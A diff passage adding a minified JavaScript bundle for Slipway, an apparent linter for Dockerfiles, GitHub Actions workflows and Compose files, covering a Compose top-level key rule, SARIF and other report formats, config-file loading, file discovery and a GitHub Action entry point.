+`,expect:[]}]},Sy=Z1;var My=[Lh,Dh,Vh,zh,Jh,ey,ny,iy,ry,oy,ay,cy,ly,py,dy,fy,gy,my,yy,wy,vy,ky,xy,Ry,Oy,Sy];var Ay={languages:["workflow","action"],parse:(n,e)=>new Gt(n,e==="action"?"action":"workflow"),rules:[...fr,...My]};var Ao=class extends Ln{};var Ny=["version","name","include","services","networks","volumes","secrets","configs","models"],Q1={id:"compose-unknown-key",language:"compose",severity:"error",docs:{summary:"Top-level keys of a Compose file must be ones the Compose specification defines, or `x-` extensions.",why:'`docker compose` refuses the whole file with "additional properties not allowed"; a misspelt `service:` or `volume:` is easy to miss.',bad:`service:
+  web:
+    image: nginx
+`,good:`services:
+  web:
+    image: nginx
+`},check({model:n,report:e}){let t=n.root;if(t)for(let s of t.items){let i=H(s);if(i===void 0||i.startsWith("x-")||Ny.includes(i))continue;let r=n.keyRange(s),o=se(i,Ny);e({message:`additional property "${i}" is not allowed at the top level`+(o?`. Did you mean "${o}"?`:""),range:r,fixes:o?[{title:`Change to "${o}"`,preferred:!0,edits:[{range:r,newText:o}]}]:void 0})}},tests:[{name:"typo",input:`service:
+  web:
+    image: nginx
+`,expect:[{line:1,col:1}],fixed:`services:
+  web:
+    image: nginx
+`},{name:"extensions allowed",input:`x-common: &c
+  restart: always
+services:
+  web:
+    image: nginx
+`,expect:[]},{name:"all top keys",input:`version: "3.9"
+name: app
+services: {}
+networks: {}
+volumes: {}
+secrets: {}
+configs: {}
+`,expect:[]}]},Ey=Q1;var Fy=[Ey];var Cy={languages:["compose"],parse:n=>new Ao(n),rules:[...fr,...Fy]};var Ly=[If,Ay,Cy];function e0(n){let e=Ly.find(t=>t.languages.includes(n));if(!e)throw new Error(`no module for ${n}`);return e}function Dy(){let n=new Set;for(let e of Ly)for(let t of e.rules)n.add(t);return[...n]}function Qu(n){return Array.isArray(n.language)?n.language:[n.language]}var Eo={readFile(n){try{return No.readFileSync(n,"utf8")}catch{return}},exists(n){return No.existsSync(n)}};function t0(n,e){let t=Un(n);for(let s of t){let i=e.severities.get(s.toLowerCase());if(i)return i}return n.optIn&&!t.some(s=>e.enabled.has(s.toLowerCase()))?"off":n.severity}function Ty(n){let e=e0(n.language),t=n.config??Qt(),s=n.model??e.parse(n.text,n.language),i=[],r=[];for(let o of e.rules){if(!Qu(o).includes(n.language)||n.only&&!n.only.has(o.id))continue;let a=t0(o,t);if(a==="off"&&o.optIn&&!Un(o).some(l=>t.severities.has(l.toLowerCase()))&&e.enabledByDocument?.(s,o,{buildArgs:t.options.buildArgs})&&(a=o.severity),a==="off")continue;let c=[];try{o.check({model:s,options:t.options,path:n.path,files:n.files??Eo,report(l){c.push({rule:o.id,message:l.message,range:l.range,severity:l.severity&&!t.severities.has(o.id.toLowerCase())?l.severity:a,fixes:l.fixes})}})}catch(l){r.push({rule:o.id,error:l instanceof Error?l.stack??l.message:String(l)});continue}for(let l of c)e.isSuppressed?.(s,l,o,{buildArgs:t.options.buildArgs})||(e.adjustSeverity&&(l.severity=e.adjustSeverity(s,l,o,{buildArgs:t.options.buildArgs})??l.severity),i.push(l))}return i.sort((o,a)=>yp(o.range.start,a.range.start)||o.rule.localeCompare(a.rule)),{findings:i,model:s,crashes:r}}var n0="https://json.schemastore.org/sarif-2.1.0.json",s0="https://github.com/slipway-dev/slipway",jy="SRCROOT",_y={error:"error",warning:"warning",info:"note",hint:"note"};function $y(n){let e=n.start,t=n.end.line<e.line||n.end.line===e.line&&n.end.character<e.character?e:n.end;return{startLine:e.line+1,startColumn:e.character+1,endLine:t.line+1,endColumn:t.character+1}}function i0(n,e){if(n.display)return{uri:encodeURIComponent(n.display)};let t=zs(n.path,e);return Gs.isAbsolute(t)?{uri:(0,ep.pathToFileURL)(n.path).href}:{uri:t.split("/").map(encodeURIComponent).join("/"),uriBaseId:jy}}function r0(){return Dy().map(n=>{let e=Zt(n.id),t=Qu(n).map(s=>s==="action"?"github-action":s);return{id:n.id,shortDescription:{text:n.docs.summary},fullDescription:{text:n.docs.why},helpUri:e,help:{text:`${n.docs.summary}
+
+${n.docs.why}
+
+See ${e}`,markdown:`${n.docs.summary}
+
+${n.docs.why}
+
+[Rule documentation](${e})`},defaultConfiguration:{level:_y[n.severity],enabled:!n.optIn},properties:{tags:[...new Set(t)]}}})}function o0(n,e){if(n.fixes?.length)return n.fixes.map(t=>({description:{text:t.title},artifactChanges:[{artifactLocation:e,replacements:t.edits.map(s=>({deletedRegion:$y(s.range),insertedContent:{text:s.newText}}))}]}))}function a0(n,e){let t=r0(),s=new Map(t.map((o,a)=>[o.id,a])),i=[],r=[];for(let o of e.errors)r.push({level:"error",message:{text:o}});for(let o of n){let a=i0(o,e.cwd);o.error&&r.push({level:"error",message:{text:`cannot read ${o.display??zs(o.path,e.cwd)}: ${o.error}`},locations:[{physicalLocation:{artifactLocation:a}}]});for(let c of o.findings){let l=s.get(c.rule),u=o0(c,a);i.push({ruleId:c.rule,...l!==void 0?{ruleIndex:l}:{},level:_y[c.severity],message:{text:c.message},locations:[{physicalLocation:{artifactLocation:a,region:$y(c.range)}}],...u?{fixes:u}:{}})}}return{$schema:n0,version:"2.1.0",runs:[{tool:{driver:{name:"Slipway",version:e.version,semanticVersion:e.version,informationUri:s0,rules:t}},originalUriBaseIds:{[jy]:{uri:(0,ep.pathToFileURL)(e.cwd.endsWith(Gs.sep)?e.cwd:e.cwd+Gs.sep).href}},columnKind:"utf16CodeUnits",invocations:[{executionSuccessful:e.errors.length===0&&!n.some(o=>o.error),toolExecutionNotifications:r}],results:i}]}}function Iy(n,e){return JSON.stringify(a0(n,e),null,2)+`
+`}var tp=["text","json","sarif","github","checkstyle"];function Py(n){return tp.includes(n)}function np(n,e,t){switch(n){case"json":return gp(e,t.cwd);case"sarif":return Iy(e,t);case"github":return hp(e,t);case"checkstyle":return mp(e,t);default:return fp(e,t.cwd,t.color)}}var qy="0.1.0";var cp=U(require("node:fs")),Pn=U(require("node:path"));var Et=U(require("node:path")),sp=U(ke());var c0=[".hadolint.yaml",".hadolint.yml"],l0=[".slipway.yaml",".slipway.yml"],u0=[".github/actionlint.yaml",".github/actionlint.yml"],p0=[".github/slipway.yaml",".github/slipway.yml"];function $n(n){return Array.isArray(n)?n.filter(e=>typeof e=="string"||typeof e=="number").map(String):typeof n=="string"?[n]:[]}function ip(n,e){let t=[],s;try{s=(0,sp.parse)(n)}catch(f){return{config:{},problems:[`${e}: not valid YAML (${f.message.split(`
+`)[0]}); ignored`]}}if(s==null)return{config:{},problems:t};if(typeof s!="object"||Array.isArray(s))return{config:{},problems:[`${e}: expected a mapping; ignored`]};let i=s,r=new Map;for(let f of $n(i.ignored))r.set(f.toLowerCase(),"off");let o=i.override;if(o&&typeof o=="object")for(let[f,m]of Object.entries(o)){let g=en(f);if(!g){t.push(`${e}: unknown override level "${f}" (expected error, warning, info or style)`);continue}for(let h of $n(m))r.set(h.toLowerCase(),g)}let a={},c=i.trustedRegistries??i["trusted-registries"];c!==void 0&&(a.trustedRegistries=$n(c));let l=i["label-schema"]??i.labelSchema;l&&typeof l=="object"&&(a.labelSchema=l),typeof i["strict-labels"]=="boolean"&&(a.strictLabels=i["strict-labels"]);let u,p=i["failure-threshold"]??i.failureThreshold;if(p!==void 0){let f=en(p);f&&f!=="off"?u=f:t.push(`${e}: unknown failure-threshold "${String(p)}"`)}let d={severities:r};return Object.keys(a).length&&(d.options=a),u&&(d.failureThreshold=u),{config:d,problems:t}}function rp(n,e){let t=[],s;try{s=(0,sp.parse)(n)}catch(d){return{config:{},problems:[`${e}: not valid YAML (${d.message.split(`
+`)[0]}); ignored`]}}if(!s||typeof s!="object"||Array.isArray(s))return{config:{},problems:t};let i=s,r=new Map,o=new Set,a=i.rules;if(a&&typeof a=="object")for(let[d,f]of Object.entries(a)){let m=f===!0?"on":f===!1?"off":en(f);m==="on"?o.add(d.toLowerCase()):m?(r.set(d.toLowerCase(),m),m!=="off"&&o.add(d.toLowerCase())):t.push(`${e}: rule ${d}: unknown severity "${String(f)}"`)}let c={};i.trustedRegistries!==void 0&&(c.trustedRegistries=$n(i.trustedRegistries));let l=i["self-hosted-runner"],u=[...$n(i.runnerLabels),...$n(l?.labels)];u.length&&(c.runnerLabels=u);let p={severities:r,enabled:o};return Object.keys(c).length&&(p.options=c),{config:p,problems:t}}function Uy(n,e,t,s,i=Qt()){let r=[],o=[],a=i,c=new Map,l=Et.dirname(n),u=s?Et.resolve(s):void 0;for(;;){let d=[["hadolint",c0],["slipway",l0],["actionlint",u0],["slipway-github",p0]];for(let[m,g]of d)if(!c.has(m))for(let h of g){let y=Et.join(l,h);if(t.exists(y)){c.set(m,y);break}}if(u&&Et.resolve(l)===u)break;let f=Et.dirname(l);if(f===l)break;l=f}let p=e==="dockerfile"?["hadolint","slipway"]:["actionlint","slipway-github","slipway"];for(let d of p){let f=c.get(d);if(!f)continue;let m=t.readFile(f);if(m===void 0)continue;let g=d==="hadolint"?ip(m,f):rp(m,f);a=Hn(a,g.config),r.push(f),o.push(...g.problems)}return{config:a,sources:r,problems:o}}var Hy=U(require("node:path"));function Yy(n){return n.replace(/\\/g,"/")}function d0(n){return(/^(Dockerfile|Containerfile)(\..+)?$/i.test(n)||/\.(dockerfile|containerfile)$/i.test(n))&&!/\.dockerignore$/i.test(n)}function f0(n){return/^(docker-)?compose([.-][\w.-]+)?\.ya?ml$/i.test(n)}function g0(n){return/(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(Yy(n))}function m0(n){return/^action\.ya?ml$/i.test(n)}function Fo(n,e){let t=Yy(n),s=Hy.posix.basename(t);if(g0(t))return"workflow";if(m0(s))return"action";if(f0(s))return"compose";if(d0(s))return"dockerfile";switch(e){case"dockerfile":return"dockerfile";case"dockercompose":return"compose";case"github-actions-workflow":return"workflow"}}var In=U(require("node:fs")),ct=U(require("node:path"));var h0=new Set(["node_modules",".git",".hg",".svn","out","dist",".venv","venv","__pycache__",".tox"]);function y0(n){let e="";for(let t=0;t<n.length;t++){let s=n[t];if(s==="*")if(n[t+1]==="*"){let i=n[t+2]==="/";e+=i?"(?:.*/)?":".*",t+=i?2:1}else e+="[^/]*";else if(s==="?")e+="[^/]";else if(s==="{"){let i=n.indexOf("}",t);i<0?e+="\\{":(e+="(?:"+n.slice(t+1,i).split(",").map(r=>r.replace(/[.+^$()|[\]\\]/g,"\\$&").replace(/\*/g,"[^/]*")).join("|")+")",t=i)}else if(s==="["){let i=n.indexOf("]",t);i<0?e+="\\[":(e+="["+n.slice(t+1,i).replace(/^!/,"^")+"]",t=i)}else e+=s.replace(/[.+^$()|\\]/g,"\\$&")}return new RegExp(`^${e}$`)}function b0(n){return/[*?{[]/.test(n)}function op(n,e){let t;try{t=In.readdirSync(n,{withFileTypes:!0})}catch{return}t.sort((s,i)=>s.name.localeCompare(i.name));for(let s of t){let i=ct.join(n,s.name);s.isDirectory()?h0.has(s.name)||op(i,e):s.isFile()&&e.push(i)}}function By(n,e,t){let s=[],i=[],r=new Set,o=(a,c)=>{let l=ct.resolve(e,a);if(r.has(l))return;let u=t??Fo(l)??(c?w0(l):void 0);u&&(r.add(l),s.push({path:l,language:u}))};for(let a of n.length?n:["."]){let c=ct.resolve(e,a);if(b0(a)){let u=y0(a.replace(/\\/g,"/").replace(/^\.\//,"")),p=[];op(e,p);let d=p.filter(f=>u.test(ct.relative(e,f).split(ct.sep).join("/")));d.length||i.push(`${a}: no files match`);for(let f of d)o(f,!0);continue}let l;try{l=In.statSync(c)}catch{i.push(`${a}: no such file or directory`);continue}if(l.isDirectory()){let u=[];op(c,u);for(let p of u)o(p,!1)}else o(c,!0)}return{targets:s,errors:i}}function w0(n){let e="";try{e=In.readFileSync(n,"utf8").slice(0,4096)}catch{return}return ap(e)}function ap(n){if(n=n.slice(0,4096),/^\s*(FROM|ARG)\s/im.test(n))return"dockerfile";if(/^jobs\s*:/m.test(n)&&/^(on|"on"|'on')\s*:/m.test(n))return"workflow";if(/^services\s*:/m.test(n))return"compose";if(/^runs\s*:/m.test(n))return"action"}var qn=class extends Error{},v0="<stdin>";function k0(n){let e=cp.readFileSync(n,"utf8");return/hadolint/i.test(Pn.basename(n))?ip(e,n):rp(e,n)}function Wy(n){let{cwd:e}=n,t=n.paths.filter(d=>d!=="-"),s=n.paths.includes("-"),i=t.length||!s?By(t,e,n.language):{targets:[],errors:[]},r=[...i.targets];if(s){let d=n.stdin?.text??"",f=n.stdin?.filename,m=n.language??(f?Fo(Pn.resolve(e,f)):void 0)??ap(d);if(!m)throw new qn("cannot tell the language of standard input: pass --stdin-filename <name> or --language <lang>");r.unshift({path:Pn.resolve(e,f??"stdin"),language:m,text:d,display:f?void 0:v0})}let o;if(n.config)try{let d=k0(Pn.resolve(e,n.config));o=d.config;for(let f of d.problems)n.warn(f)}catch(d){throw new qn(`cannot read config ${n.config}: ${d.message}`)}let a={severities:new Map(n.ignore.map(d=>[d.toLowerCase(),"off"]))},c=[],l=new Set,u=n.threshold??"error";for(let d of r){let f=d.text;if(f===void 0)try{f=cp.readFileSync(d.path,"utf8")}catch(h){c.push({path:d.path,language:d.language,findings:[],error:h.message});continue}let m=Qt();if(o)m=Hn(m,o);else{let h=Uy(d.path,d.language,Eo);m=h.config;for(let y of h.problems)!l.has(y)&&l.add(y)&&n.warn(y)}!n.threshold&&m.failureThreshold!=="error"&&(u=m.failureThreshold),m=Hn(m,a);let g=Ty({text:f,language:d.language,path:d.path,config:m,files:Eo});for(let h of g.crashes)n.warn(`internal error in rule ${h.rule} on ${d.display??d.path}: ${h.error.split(`
+`)[0]}`);c.push({path:d.path,language:d.language,findings:g.findings,...d.display?{display:d.display}:{}})}let p=0;return i.errors.length||c.some(d=>d.error)?p=2:c.some(d=>d.findings.some(f=>Do[f.severity]<=Do[u]))&&(p=1),{results:c,errors:i.errors,threshold:u,exitCode:p}}function Kt(n,e=process.env){return(e[`INPUT_${n.replace(/ /g,"_").toUpperCase()}`]??"").trim()}function Co(n,e,t){let s=t.GITHUB_OUTPUT;if(!s)return;let i=String(e),r=i.includes(`
+`)?`${n}<<SLIPWAY_EOF
+${i}
+SLIPWAY_EOF
+`:`${n}=${i}
+`;Xt.appendFileSync(s,r)}function Gy(n){let{env:e,cwd:t}=n,s=m=>(n.stdout(`::error title=Slipway::${sn(m)}
+`),2),i=Kt("format",e)||"github";if(!Py(i))return s(`unknown format "${i}" (${tp.join(", ")})`);let r,o=Kt("severity-threshold",e);if(o){let m=en(o);if(!m||m==="off")return s(`unknown severity-threshold "${o}" (error, warning, info, hint)`);r=m}let a=Kt("path",e).split(/\s+/).filter(Boolean),c=Kt("ignore",e).split(/[\s,]+/).filter(Boolean),l=[],u;try{u=Wy({paths:a,cwd:t,config:Kt("config",e)||void 0,threshold:r,ignore:c,warn:m=>l.push(m)})}catch(m){if(m instanceof qn)return s(m.message);throw m}for(let m of l)n.stdout(`::warning title=Slipway::${sn(m)}
+`);let p={cwd:t,color:!1,errors:u.errors,version:qy};n.stdout(np(i,u.results,p));let d=Kt("sarif-file",e);if(d){let m=Ft.resolve(t,d);Xt.mkdirSync(Ft.dirname(m),{recursive:!0}),Xt.writeFileSync(m,np("sarif",u.results,p)),Co("sarif-file",m,e)}let f=m=>u.results.reduce((g,h)=>g+h.findings.filter(y=>y.severity===m).length,0);if(Co("errors",f("error"),e),Co("warnings",f("warning"),e),Co("findings",u.results.reduce((m,g)=>m+g.findings.length,0),e),e.GITHUB_STEP_SUMMARY){let m=["### Slipway","","| file | line | severity | rule | message |","| --- | --- | --- | --- | --- |"],g=h=>h.replace(/\|/g,"\\|").replace(/\r?\n/g," ");for(let h of u.results)for(let y of h.findings)m.push(`| ${g(h.display??Ft.relative(t,h.path).split(Ft.sep).join("/"))} | ${y.range.start.line+1} | ${y.severity} | ${y.rule} | ${g(y.message)} |`);m.length===4&&m.splice(2,2,`${u.results.length} file(s) checked, no problems.`),Xt.appendFileSync(e.GITHUB_STEP_SUMMARY,m.join(`
+`)+`
+
+`)}return u.exitCode}if(require.main===module)try{process.exitCode=Gy({env:process.env,cwd:process.cwd(),stdout:n=>process.stdout.write(n)})}catch(n){process.stdout.write(`::error title=Slipway::${sn(String(n.stack??n))}
+`),process.exitCode=2}0&&(module.exports={getInput,runAction});
